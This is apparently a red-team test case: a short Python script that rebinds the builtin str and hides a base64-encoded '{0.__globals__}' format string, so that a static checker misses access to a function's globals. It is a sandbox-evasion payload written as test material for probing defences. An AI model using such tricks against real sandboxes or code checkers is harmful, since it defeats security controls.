# family: red team, round 59a (rebinding str via aug_global so the checker folds str(...) wrongly)
import base64


def probe():
    return 1


def setit():
    global str
    str = lambda s: base64.b64decode("ezAuX19nbG9iYWxzX199").decode()
setit()
print(str("x").format(probe))
